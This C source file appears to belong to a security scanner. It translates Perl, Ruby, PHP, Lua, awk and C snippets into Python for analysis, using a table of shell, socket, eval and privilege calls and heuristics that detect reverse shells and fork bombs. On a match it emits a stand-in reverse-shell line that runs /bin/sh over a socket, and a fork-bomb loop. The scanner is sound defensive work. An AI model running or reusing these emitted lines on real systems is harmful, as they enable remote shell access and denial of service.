/* script.c - a tokenizer that is right about strings and comments, a table of names, and a little of expressions.
 *
 * Every way down (brackets, arguments) counts in `depth`; every byte of the text is read once, but for the few that are
 * looked ahead at.
 */
#include "scan/script.h"

#define MAX_DEPTH 24u
#define MAX_NAME  96u
#define SHELL     "script_shell" /* known to the Python resolver: a text for a shell, and no fact by itself */

struct script {
    uint8_t language;
    const char *text;
    uint32_t size, at;
    unsigned depth, lines; /* lines: ends of lines that were read and not yet written */
    struct buf *out;
    bool is_endless; /* `while (1)` and the like stand somewhere */
    bool has_net, has_shell;
};

enum { IS_PLAIN, IS_COMMAND, IS_OPEN, IS_NET, IS_KILL, IS_FORK, IS_CODE };

/* What stands in the other language, and what does the same in Python. */
static const struct meaning {
    uint8_t languages; /* bits from EMBEDDED_PERL on */
    uint8_t kind;
    const char *name, *python;
} meanings[] = {
#define P 1u
#define R 2u
#define H 4u
#define L 8u
#define A 16u
#define C 32u
    { P | R | H | A | C, IS_COMMAND, "system", SHELL },
    { P | R | H, IS_COMMAND, "exec", SHELL },
    { R, IS_COMMAND, "spawn", SHELL },
    { R, IS_COMMAND, "IO.popen", SHELL },
    { R, IS_COMMAND, "Open3.capture2", SHELL },
    { R, IS_COMMAND, "Open3.capture2e", SHELL },
    { R, IS_COMMAND, "Open3.capture3", SHELL },
    { R, IS_COMMAND, "Open3.popen3", SHELL },
    { R, IS_COMMAND, "Process.spawn", SHELL },
    { R, IS_COMMAND, "Kernel.system", SHELL },
    { H, IS_COMMAND, "shell_exec", SHELL },
    { H, IS_COMMAND, "passthru", SHELL },
    { H | C, IS_COMMAND, "popen", SHELL },
    { H, IS_COMMAND, "proc_open", SHELL },
    { H, IS_COMMAND, "pcntl_exec", SHELL },
    { L, IS_COMMAND, "os.execute", SHELL },
    { L, IS_COMMAND, "io.popen", SHELL },
    { C, IS_PLAIN, "execl", "os.execl" },
    { C, IS_PLAIN, "execlp", "os.execlp" },
    { C, IS_PLAIN, "execle", "os.execle" },
    { C, IS_OPEN, "open", "open" },
    { C, IS_OPEN, "fopen", "open" },
    { P, IS_OPEN, "open", "open" },
    { P, IS_OPEN, "sysopen", "open" },
    { P, IS_OPEN, "read_file", "open" },
    { P, IS_OPEN, "slurp", "open" },
    { R, IS_OPEN, "open", "open" },
    { R, IS_OPEN, "File.open", "open" },
    { R, IS_OPEN, "File.new", "open" },
    { R, IS_OPEN, "File.read", "open" },
    { R, IS_OPEN, "File.binread", "open" },
    { R, IS_OPEN, "File.readlines", "open" },
    { R, IS_OPEN, "File.foreach", "open" },
    { R, IS_OPEN, "IO.read", "open" },
    { R, IS_OPEN, "IO.readlines", "open" },
    { H, IS_OPEN, "fopen", "open" },
    { H, IS_OPEN, "file_get_contents", "open" },
    { H, IS_OPEN, "file", "open" },
    { H, IS_OPEN, "readfile", "open" },
    { H, IS_OPEN, "highlight_file", "open" },
    { H, IS_OPEN, "include", "open" },
    { H, IS_OPEN, "require", "open" },
    { L, IS_OPEN, "io.open", "open" },
    { L, IS_OPEN, "io.lines", "open" },
    { L, IS_OPEN, "io.input", "open" },
    { L, IS_OPEN, "dofile", "open" },
    { L, IS_OPEN, "loadfile", "open" },
    { R, IS_PLAIN, "File.write", "os.truncate" },
    { H, IS_PLAIN, "file_put_contents", "os.truncate" },
    { P | H | C, IS_PLAIN, "unlink", "os.remove" },
    { C, IS_PLAIN, "truncate", "os.truncate" },
    { C, IS_PLAIN, "setuid", "os.setuid" },
    { C, IS_PLAIN, "setgid", "os.setgid" },
    { C, IS_PLAIN, "setreuid", "os.setreuid" },
    { C, IS_PLAIN, "setresuid", "os.setresuid" },
    { C, IS_PLAIN, "kill", "os.kill" },
    { C, IS_PLAIN, "ptrace", "ctypes.CDLL.ptrace" },
    { C, IS_PLAIN, "process_vm_readv", "ctypes.CDLL.process_vm_readv" },
    { C, IS_PLAIN, "process_vm_writev", "ctypes.CDLL.process_vm_writev" },
    { C, IS_PLAIN, "setns", "ctypes.CDLL.setns" },
    { C, IS_PLAIN, "unshare", "ctypes.CDLL.unshare" },
    { C, IS_PLAIN, "mount", "ctypes.CDLL.mount" },
    { C, IS_PLAIN, "pivot_root", "ctypes.CDLL.pivot_root" },
    { C, IS_PLAIN, "init_module", "ctypes.CDLL.init_module" },
    { C, IS_PLAIN, "finit_module", "ctypes.CDLL.finit_module" },
    { R, IS_PLAIN, "File.delete", "os.remove" },
    { R, IS_PLAIN, "File.unlink", "os.remove" },
    { R, IS_PLAIN, "FileUtils.rm", "os.remove" },
    { R, IS_PLAIN, "FileUtils.rm_f", "os.remove" },
    { R, IS_PLAIN, "FileUtils.rm_r", "shutil.rmtree" },
    { R, IS_PLAIN, "FileUtils.rm_rf", "shutil.rmtree" },
    { R, IS_PLAIN, "FileUtils.remove_dir", "shutil.rmtree" },
    { R, IS_PLAIN, "FileUtils.remove_entry_secure", "shutil.rmtree" },
    { R, IS_PLAIN, "Dir.glob", "glob.glob" },
    { P, IS_PLAIN, "glob", "glob.glob" },
    { H, IS_PLAIN, "glob", "glob.glob" },
    { P, IS_PLAIN, "rmtree", "shutil.rmtree" },
    { P, IS_PLAIN, "remove_tree", "shutil.rmtree" },
    { L, IS_PLAIN, "os.remove", "os.remove" },
    { H | C, IS_PLAIN, "rename", "os.rename" },
    { H, IS_PLAIN, "copy", "shutil.copy" },
    { R, IS_PLAIN, "FileUtils.cp", "shutil.copy" },
    { P, IS_NET, "IO::Socket::INET->new", NULL },
    { P, IS_NET, "IO::Socket::SSL->new", NULL },
    { P | C, IS_NET, "socket", NULL },
    { P | C, IS_NET, "connect", NULL },
    { R, IS_NET, "TCPSocket.new", NULL },
    { R, IS_NET, "TCPSocket.open", NULL },
    { R, IS_NET, "UDPSocket.new", NULL },
    { R, IS_NET, "Socket.tcp", NULL },
    { H, IS_NET, "fsockopen", NULL },
    { H, IS_NET, "pfsockopen", NULL },
    { H, IS_NET, "stream_socket_client", NULL },
    { H, IS_NET, "socket_connect", NULL },
    { L, IS_NET, "socket.tcp", NULL },
    { L, IS_NET, "socket.connect", NULL },
    { L, IS_NET, "socket.udp", NULL },
    { R, IS_PLAIN, "Net::HTTP.get", "requests.get" },
    { R, IS_PLAIN, "Net::HTTP.post", "requests.post" },
    { R, IS_PLAIN, "Net::HTTP.post_form", "requests.post" },
    { R, IS_PLAIN, "URI.open", "requests.get" },
    { P, IS_PLAIN, "LWP::Simple::get", "requests.get" },
    { P, IS_PLAIN, "getstore", "requests.get" },
    { H, IS_PLAIN, "curl_init", "requests.post" },
    { L, IS_PLAIN, "http.request", "requests.post" },
    { P, IS_KILL, "kill", "os.kill" },
    { R, IS_KILL, "Process.kill", "os.kill" },
    { H, IS_PLAIN, "posix_kill", "os.kill" },
    { P | R | C, IS_FORK, "fork", "os.fork" },
    { H, IS_FORK, "pcntl_fork", "os.fork" },
    { P | R, IS_CODE, "eval", "exec" },
    { R, IS_CODE, "instance_eval", "exec" },
    { H, IS_CODE, "eval", "exec" },
    { H, IS_CODE, "assert", "exec" },
    { L, IS_CODE, "load", "exec" },
    { L, IS_CODE, "loadstring", "exec" },
    { P, IS_PLAIN, "decode_base64", "base64.b64decode" },
    { P, IS_PLAIN, "MIME::Base64::decode", "base64.b64decode" },
    { R, IS_PLAIN, "Base64.decode64", "base64.b64decode" },
    { R, IS_PLAIN, "Base64.strict_decode64", "base64.b64decode" },
    { H, IS_PLAIN, "base64_decode", "base64.b64decode" },
    { H, IS_PLAIN, "hex2bin", "bytes.fromhex" },
    { H | C, IS_PLAIN, "chmod", "os.chmod" },
    { R, IS_PLAIN, "Process::Sys.setuid", "os.setuid" },
    { H, IS_PLAIN, "posix_setuid", "os.setuid" },
    { P, IS_PLAIN, "POSIX::setuid", "os.setuid" },
    { P | R | H | C, IS_PLAIN, "getenv", "os.getenv" },
    { L, IS_PLAIN, "os.getenv", "os.getenv" },
    { P | C, IS_PLAIN, "dup2", "os.dup2" },
#undef P
#undef R
#undef H
#undef L
#undef A
#undef C
};

static const struct meaning *meaning_of(const struct script *s, const char *name, size_t n)
{
    for (size_t i = 0; i < ARRAY_LEN(meanings); i++)
        if (meanings[i].languages & 1u << (s->language - EMBEDDED_PERL) && strlen(meanings[i].name) == n &&
            memcmp(meanings[i].name, name, n) == 0)
            return &meanings[i];
    return NULL;
}

/* ---- reading ---- */

static char peek(const struct script *s, uint32_t ahead)
{
    return ahead < s->size - s->at ? s->text[s->at + ahead] : '\0';
}

static bool is_end(const struct script *s)
{
    return s->at >= s->size;
}

static void skip(struct script *s, uint32_t n)
{
    for (; n && !is_end(s); n--)
        s->lines += s->text[s->at++] == '\n';
}

static bool says(const struct script *s, const char *word)
{
    size_t n = strlen(word);
    return n <= s->size - s->at && memcmp(s->text + s->at, word, n) == 0;
}

static bool is_letter(char c)
{
    return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
}
static bool is_digit(char c)
{
    return c >= '0' && c <= '9';
}

static void skip_line(struct script *s)
{
    while (!is_end(s) && peek(s, 0) != '\n')
        s->at++;
}

static void skip_until(struct script *s, const char *end)
{
    while (!is_end(s) && !says(s, end))
        skip(s, 1);
    skip(s, (uint32_t)strlen(end));
}

/* Blanks and comments; of ends of lines only where a statement goes on over them. */
static void skip_blanks(struct script *s, bool over_lines)
{
    const bool has_c_comments = s->language == EMBEDDED_PHP || s->language == EMBEDDED_C;
    for (;;) {
        char c = peek(s, 0);
        if (is_end(s) || (c == '\n' && !over_lines))
            return;
        if (c == ' ' || c == '\t' || c == '\r' || c == '\n')
            skip(s, 1);
        else if (c == '#' && s->language != EMBEDDED_LUA)
            skip_line(s);
        else if (s->language == EMBEDDED_LUA && says(s, "--[["))
            skip_until(s, "]]");
        else if ((s->language == EMBEDDED_LUA && says(s, "--")) || (has_c_comments && says(s, "//")))
            skip_line(s);
        else if (has_c_comments && says(s, "/*"))
            skip_until(s, "*/");
        else
            return;
    }
}

/* ---- writing ---- */

static void write_text(struct script *s, const char *t)
{
    (void)buf_adds(s->out, t); /* a full one stays as it is, and says so */
}

static void write_byte(struct script *s, char c)
{
    if (c == '\\' || c == '\'')
        (void)buf_addc(s->out, '\\');
    if (c == '\n')
        write_text(s, "\\n");
    else if (c == '\r')
        write_text(s, "\\r");
    else if (c)
        (void)buf_addc(s->out, c);
}

static char closing(char c)
{
    return c == '(' ? ')' : c == '[' ? ']' : c == '{' ? '}' : c == '<' ? '>' : c;
}

/* From behind the opening quote to behind the closing one; «$x» and #{x} stay as holes. */
static void write_string(struct script *s, char open, bool is_raw)
{
    char end = closing(open);
    unsigned depth = 1;
    write_text(s, "'");
    while (!is_end(s)) {
        char c = peek(s, 0);
        if (c == '\\' && s->at + 1 < s->size) {
            char e = peek(s, 1);
            if (is_raw && e != end && e != '\\')
                write_byte(s, '\\');
            write_byte(s, is_raw || !strchr("nrt0", e) ? e : e == 'n' ? '\n' : e == 'r' ? '\r' : e == 't' ? '\t' : ' ');
            skip(s, 2);
            continue;
        }
        if (c == open && open != end)
            depth++;
        if (c == end && --depth == 0) {
            skip(s, 1);
            break;
        }
        bool is_hole = !is_raw && ((c == '#' && peek(s, 1) == '{' && s->language == EMBEDDED_RUBY) ||
                                   (c == '$' && (is_letter(peek(s, 1)) || peek(s, 1) == '{') &&
                                    (s->language == EMBEDDED_PERL || s->language == EMBEDDED_PHP)));
        if (is_hole) {
            write_text(s, "{}");
            bool is_braced = c == '#' || peek(s, 1) == '{';
            skip(s, 1 + is_braced);
            while (!is_end(s) &&
                   (is_braced ? peek(s, 0) != '}' && peek(s, 0) != end : is_letter(peek(s, 0)) || is_digit(peek(s, 0))))
                skip(s, 1);
            skip(s, is_braced && peek(s, 0) == '}');
            continue;
        }
        write_byte(s, c);
        skip(s, 1);
    }
    write_text(s, "'");
}

/* A name with its dots and colons: $x, File.read, IO::Socket::INET->new, os.execute. */
static size_t name_at(const struct script *s, char ret[static MAX_NAME])
{
    uint32_t at = 0;
    size_t n = 0;
    while (at < 2 && (peek(s, at) == '$' || peek(s, at) == '@' || peek(s, at) == '&'))
        at++;
    if (!is_letter(peek(s, at)))
        return 0;
    for (; n < MAX_NAME - 4; at++) {
        char c = peek(s, at);
        bool is_joint = (c == '.' && s->language != EMBEDDED_PERL && s->language != EMBEDDED_PHP) ||
                        (c == ':' && peek(s, at + 1) == ':') || (c == '-' && peek(s, at + 1) == '>');
        if (is_joint && c != '.' && is_letter(peek(s, at + 2))) {
            ret[n++] = c;
            ret[n++] = peek(s, ++at);
        } else if ((is_joint && c == '.' && is_letter(peek(s, at + 1))) || is_letter(c) || is_digit(c)) {
            ret[n++] = c;
        } else {
            break;
        }
    }
    ret[n] = '\0';
    return at;
}

/* ---- expressions ---- */

static bool operand(struct script *s);

/* Operands until a comma, a closing bracket or the end of the statement, joined as texts are. */
static void expression(struct script *s, bool over_lines)
{
    bool has_one = false;
    unsigned rounds = 0;
    for (;;) {
        skip_blanks(s, over_lines);
        char c = peek(s, 0);
        if (is_end(s) || strchr(",)]};", c) || (c == '\n' && !over_lines) || (c == '=' && peek(s, 1) == '>') ||
            ++rounds > 64)
            break;
        size_t before = s->out->size;
        if (has_one)
            write_text(s, "+");
        uint32_t from = s->at;
        if (operand(s)) {
            has_one = true;
            continue;
        }
        if (has_one && s->out->size > before)
            s->out->size = before;
        if (s->at == from)
            skip(s, 1);
    }
    if (!has_one)
        write_text(s, "_u");
}

static void arguments(struct script *s, char end)
{
    bool is_first = true;
    for (unsigned i = 0; i < 24 && !is_end(s); i++) {
        skip_blanks(s, end != 0);
        char c = peek(s, 0);
        if (c == end || (!end && (c == '\n' || c == ';' || c == '}' || c == ')')))
            break;
        if (!is_first)
            write_text(s, ",");
        is_first = false;
        uint32_t from = s->at;
        expression(s, end != 0);
        skip_blanks(s, end != 0);
        c = peek(s, 0);
        if (c == ',')
            skip(s, 1);
        else if (c == '=' && peek(s, 1) == '>')
            skip(s, 2);
        else if (s->at == from || (end && c != end))
            skip(s, c != end && c != '\n');
    }
    if (end && peek(s, 0) == end)
        skip(s, 1);
}

/* perl's open(F, "<", PATH) and open(F, "< PATH"): the last argument is the path, or holds it; what ends or begins
 * with a bar is a command. */
static void write_open(struct script *s, size_t from)
{
    char *t = s->out->data + from;
    size_t n = s->out->size - from;
    char *quote = n ? memrchr(t, '\'', n) : NULL;
    if (!quote || n > 2000)
        return;
    char *begin = quote > t ? memrchr(t, '\'', (size_t)(quote - t)) : NULL;
    if (!begin)
        return;
    bool is_write = memchr(t, '>', n) != NULL, is_command = memchr(t, '|', n) != NULL;
    while (begin + 1 < quote && strchr("<>|+ ", begin[1]))
        begin++;
    char path[2048];
    size_t size = (size_t)(quote - begin - 1);
    memcpy(path, begin + 1, size);
    while (size && (path[size - 1] == '|' || path[size - 1] == ' '))
        size--;
    path[size] = '\0';
    s->out->size = from;
    write_text(s, is_command ? "0);" SHELL "('" : "'");
    write_text(s, path);
    write_text(s, is_write && !is_command ? "','w" : "'");
    write_text(s, is_write && !is_command ? "'" : "");
}

/* kill SIGNAL, PID: os.kill() has them the other way round. */
static void swap_two(struct script *s, size_t from)
{
    char both[256];
    const char *t = s->out->data ? s->out->data + from : NULL;
    size_t n = s->out->size - from;
    const char *comma = t ? memchr(t, ',', n) : NULL;
    if (!comma || n >= sizeof both)
        return;
    size_t first = (size_t)(comma - t);
    memcpy(both, comma + 1, n - first - 1);
    both[n - first - 1] = ',';
    memcpy(both + n - first, t, first);
    both[n] = '\0';
    s->out->size = from;
    write_text(s, both);
}

static void call(struct script *s, const struct meaning *m)
{
    skip_blanks(s, false);
    char open = peek(s, 0);
    bool is_bracket = open == '(';
    skip(s, is_bracket);
    if (m->kind == IS_NET) {
        s->has_net = true;
        write_text(s, "socket.create_connection((");
    } else {
        write_text(s, m->python);
        write_text(s, "(");
    }
    size_t from = s->out->size;
    if (s->depth < MAX_DEPTH && m->kind != IS_FORK) {
        s->depth++;
        arguments(s, is_bracket ? ')' : '\0');
        s->depth--;
    }
    if (m->kind == IS_OPEN && s->language == EMBEDDED_PERL)
        write_open(s, from);
    if (m->kind == IS_KILL)
        swap_two(s, from);
    if (m->kind == IS_COMMAND && s->out->size > from && memmem(s->out->data + from, s->out->size - from, "sh", 2))
        s->has_shell = true;
    write_text(s, m->kind == IS_NET ? "))" : ")");
    if (m->kind == IS_OPEN || str_eq(m->python ? m->python : "", SHELL))
        write_text(s, ".read()");
}

static bool is_quote_word(const struct script *s, const char *name)
{
    char c = peek(s, 0);
    return (s->language == EMBEDDED_PERL || s->language == EMBEDDED_RUBY) && c && !is_letter(c) && !is_digit(c) &&
           !strchr(" \t\r\n,;=)>.-", c) && (str_eq(name, "q") || str_eq(name, "qq") || str_eq(name, "qw"));
}

static bool skip_pattern(struct script *s, const char *name)
{
    bool is_two = str_eq(name, "s") || str_eq(name, "tr") || str_eq(name, "y");
    char open = peek(s, 0);
    if (s->language != EMBEDDED_PERL || !(is_two || str_eq(name, "m") || str_eq(name, "qr")) || is_letter(open) ||
        is_digit(open) || !open || strchr(" \t\r\n,;=)-", open))
        return false;
    const char end = closing(open);
    for (int part = 0; part < (is_two ? 2 : 1); part++) {
        if (part && end != open)
            skip_blanks(s, true);
        skip(s, part == 0 || end != open); /* s{a} {b} has an opening one for each, s/a/b/ has not */
        while (!is_end(s) && peek(s, 0) != end)
            skip(s, peek(s, 0) == '\\' ? 2 : 1);
        skip(s, 1);
    }
    return true;
}

static void command_in_quotes(struct script *s, char open)
{
    write_text(s, SHELL "(");
    size_t from = s->out->size;
    write_string(s, open, false);
    s->has_shell |= s->out->size > from && memmem(s->out->data + from, s->out->size - from, "sh", 2);
    write_text(s, ").read()");
}

/* awk's "cmd" | getline: the text that was written last is a command. */
static void write_popen(struct script *s, size_t from)
{
    char command[1024];
    size_t n = s->out->size - from;
    if (s->out->failed || n >= sizeof command)
        return;
    memcpy(command, s->out->data + from, n);
    command[n] = '\0';
    s->out->size = from;
    write_text(s, SHELL "(");
    write_text(s, command);
    write_text(s, ")");
}

static bool operand(struct script *s)
{
    char c = peek(s, 0), name[MAX_NAME];
    if (s->language == EMBEDDED_AWK && c == '|' && (peek(s, 1) == '"' || (peek(s, 1) == ' ' && peek(s, 2) == '"'))) {
        skip(s, 2 + (peek(s, 1) == ' ')); /* print | "sh" */
        command_in_quotes(s, '"');
        return true;
    }
    if (c == '\'' || c == '"') {
        size_t from = s->out->size;
        skip(s, 1);
        write_string(s, c, c == '\'');
        skip_blanks(s, false);
        if (s->language == EMBEDDED_AWK && (says(s, "| getline") || says(s, "|getline")))
            write_popen(s, from);
        return true;
    }
    if (c == '`' && s->language != EMBEDDED_LUA && s->language != EMBEDDED_AWK && s->language != EMBEDDED_C) {
        skip(s, 1);
        command_in_quotes(s, '`');
        return true;
    }
    if (s->language == EMBEDDED_RUBY && c == '%' && (says(s, "%x") || says(s, "%q") || says(s, "%Q")) && peek(s, 2) &&
        strchr("({[|!", peek(s, 2))) {
        char kind = peek(s, 1), open = peek(s, 2);
        skip(s, 3);
        if (kind == 'x')
            command_in_quotes(s, open);
        else
            write_string(s, open, kind == 'q');
        return true;
    }
    if (s->language == EMBEDDED_LUA && says(s, "[[")) {
        skip(s, 2);
        write_text(s, "'");
        while (!is_end(s) && !says(s, "]]")) {
            write_byte(s, peek(s, 0));
            skip(s, 1);
        }
        skip(s, 2);
        write_text(s, "'");
        return true;
    }
    if (is_digit(c) || (c == '-' && is_digit(peek(s, 1)))) {
        char number[24];
        size_t n = 0;
        number[n++] = c;
        skip(s, 1);
        while (n < sizeof number - 1 && is_digit(peek(s, 0))) {
            number[n++] = peek(s, 0);
            skip(s, 1);
        }
        number[n] = '\0';
        bool is_octal = number[0] == '0' && n > 1;
        write_text(s, is_octal ? "0o" : "");
        write_text(s, is_octal ? number + 1 : number);
        return true;
    }
    if ((c == '(' || c == '[') && s->depth < MAX_DEPTH) {
        s->depth++;
        skip(s, 1);
        write_text(s, "(");
        arguments(s, closing(c));
        write_text(s, ")");
        s->depth--;
        return true;
    }
    size_t n = name_at(s, name);
    if (!n)
        return false;
    bool is_variable = c == '$' || c == '@';
    skip(s, (uint32_t)n);
    if (!is_variable && skip_pattern(s, name))
        return false;
    if (!is_variable && (is_quote_word(s, name) || (str_eq(name, "qx") && s->language == EMBEDDED_PERL))) {
        char open = peek(s, 0);
        skip(s, 1);
        if (str_eq(name, "qx"))
            command_in_quotes(s, open);
        else
            write_string(s, open, str_eq(name, "q"));
        return true;
    }
    const struct meaning *m = is_variable ? NULL : meaning_of(s, name, strlen(name));
    if (s->language == EMBEDDED_C && peek(s, 0) != '(')
        m = NULL;
    if (m) {
        call(s, m);
        return true;
    }
    if (!is_variable && peek(s, 0) == '(' && s->depth < MAX_DEPTH) { /* some function: its arguments may matter */
        s->depth++;
        skip(s, 1);
        write_text(s, "_f(");
        arguments(s, ')');
        write_text(s, ")");
        s->depth--;
        return true;
    }
    if (strchr(name, ':') || strchr(name, '-') || (!is_variable && s->language <= EMBEDDED_PERL))
        return false;
    if (strstr(name, "ENV") == name && (peek(s, 0) == '{' || peek(s, 0) == '['))
        return false; /* one variable */
    if (strstr(name, "ENV") == name) {
        write_text(s, "os.environ");
        return true;
    }
    write_text(s, "v_");
    for (char *d = name; *d; d++)
        (void)buf_addc(s->out, *d == '.' ? '_' : *d);
    return true;
}

/* ---- statements ---- */

static void end_lines(struct script *s)
{
    for (; s->lines; s->lines--)
        (void)buf_addc(s->out, '\n');
}

/* «my $x = », «local x = », «x = »: what the value is bound to. */
static void assignment(struct script *s)
{
    char name[MAX_NAME];
    struct script ahead = *s;
    size_t n = name_at(&ahead, name);
    while (n && (str_eq(name, "my") || str_eq(name, "our") || str_eq(name, "local") || str_eq(name, "return"))) {
        ahead.at += (uint32_t)n;
        while (peek(&ahead, 0) == ' ')
            ahead.at++;
        n = name_at(&ahead, name);
    }
    if (!n || strpbrk(name, ".:->"))
        return;
    ahead.at += (uint32_t)n;
    while (peek(&ahead, 0) == ' ')
        ahead.at++;
    if (peek(&ahead, 0) != '=' || strchr("=~>", peek(&ahead, 1)))
        return;
    s->at = ahead.at + 1; /* all on one line */
    write_text(s, "v_");
    write_text(s, name);
    write_text(s, "=");
}

static bool is_mentioned(const struct script *s, const char *word)
{
    return memmem(s->text, s->size, word, strlen(word)) != NULL;
}

static bool has_endless_loop(const struct script *s)
{
    static const char *const forms[] = { "while(1)",    "while (1)",    "while 1", "while true",
                                         "while(true)", "while (true)", "for(;;)", "for (;;)",
                                         "loop do",     "loop {",       "until 0", "loop{" };
    for (size_t i = 0; i < ARRAY_LEN(forms); i++)
        if (is_mentioned(s, forms[i]))
            return true;
    return false;
}

/* awk: a line that came over the network is a command: svc |& getline cmd, then cmd | getline or system(cmd). */
static bool awk_runs_what_comes(const struct script *s)
{
    const char *first = NULL, *end = s->text + s->size;
    size_t first_size = 0;
    if (s->language != EMBEDDED_AWK || !is_mentioned(s, "/inet/"))
        return false;
    for (const char *p = s->text; (p = memmem(p, (size_t)(end - p), "getline", 7)); p += 7) {
        const char *to = p;
        while (to > s->text && strchr(" |&", to[-1]))
            to--;
        const char *from = to;
        while (from > s->text && (is_letter(from[-1]) || is_digit(from[-1])))
            from--;
        if (from == to || to == p)
            continue;
        if (first && !(first_size == (size_t)(to - from) && memcmp(first, from, first_size) == 0))
            return true;
        first = from;
        first_size = (size_t)(to - from);
    }
    const char *run = memmem(s->text, s->size, "system(", 7);
    return first && run && run + 7 < end && is_letter(run[7]);
}

/* A shell whose streams are a connection's: the parts stand in the text, in whatever order. */
static bool is_reverse_shell(const struct script *s)
{
    static const char *const joins[] = { "STDIN", ">&S",     "to_i",      "fileno",    "dup2",       "reopen",   "<&3",
                                         "0=>",   "array(0", "proc_open", ":receive(", ":receive()", "/inet/tcp" };
    bool has_join = false, has_shell = s->has_shell || is_mentioned(s, "/bin/sh") || is_mentioned(s, "/bin/bash");
    for (size_t i = 0; i < ARRAY_LEN(joins); i++)
        has_join |= is_mentioned(s, joins[i]);
    bool runs_what_comes = is_mentioned(s, ":receive(") &&
                           (is_mentioned(s, "io.popen") || is_mentioned(s, "os.execute"));
    bool has_net = s->has_net || is_mentioned(s, "/inet/tcp/") ||
                   (s->language == EMBEDDED_LUA && is_mentioned(s, "socket"));
    return (has_net && ((has_join && has_shell) || runs_what_comes)) || awk_runs_what_comes(s);
}

void script_as_python(uint8_t language, const char *text, size_t size, struct buf *ret)
{
    struct script s = {
        .language = language, .text = text, .size = (uint32_t)MIN_OF(size, (size_t)UINT32_MAX / 2), .out = ret
    };
    buf_init(ret, SCRIPT_MAX_BYTES);
    s.is_endless = has_endless_loop(&s);
    write_text(&s, "import os, shutil, glob, base64; ");
    if (is_mentioned(&s, "ocket") || is_mentioned(&s, "fsockopen"))
        write_text(&s, "import socket; ");
    if (language == EMBEDDED_C)
        write_text(&s, "import ctypes; ");
    if (is_mentioned(&s, "HTTP") || is_mentioned(&s, "LWP") || is_mentioned(&s, "curl_init") ||
        is_mentioned(&s, "http.r"))
        write_text(&s, "import requests; ");
    while (!is_end(&s) && !ret->failed) {
        skip_blanks(&s, true);
        end_lines(&s);
        size_t before = ret->size;
        uint32_t from = s.at;
        assignment(&s);
        if (operand(&s)) {
            /* the rest of the statement goes with it: "a" . "b" */
            skip_blanks(&s, false);
            if (peek(&s, 0) == '.' || peek(&s, 0) == '+') {
                write_text(&s, "+");
                expression(&s, false);
            }
            write_text(&s, "; ");
        } else if (ret->size > before) {
            write_text(&s, "_u; ");
        }
        if (s.at == from)
            skip(&s, 1);
    }
    end_lines(&s);
    if (is_reverse_shell(&s))
        write_text(&s, "\nimport os, socket; _s = socket.create_connection(('{}', 1)); os.dup2(_s.fileno(), 0); "
                       "os.system('/bin/sh')\n");
    if (s.is_endless && is_mentioned(&s, "fork"))
        write_text(&s, "\nwhile True: os.fork()\n");
}
